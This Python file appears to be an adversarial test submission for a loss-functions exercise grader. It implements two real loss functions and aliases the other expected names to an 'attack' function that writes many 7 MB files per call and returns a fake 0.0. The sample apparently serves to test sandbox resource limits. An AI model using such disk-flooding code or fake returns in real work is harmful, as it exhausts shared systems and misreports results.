"""Writes some megabytes in each of many short calls, none of which lasts until somebody looks."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: too many or too large

import os
import time

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    for _ in range(4):
        with open(f"part{len(os.listdir())}", "wb") as file:
            file.write(bytes(7 * 2**20))
    time.sleep(0.2)
    return 0.0


mean_squared_error = cross_entropy_error = binary_cross_entropy = attack
softmax_cross_entropy = asymmetric_loss = attack
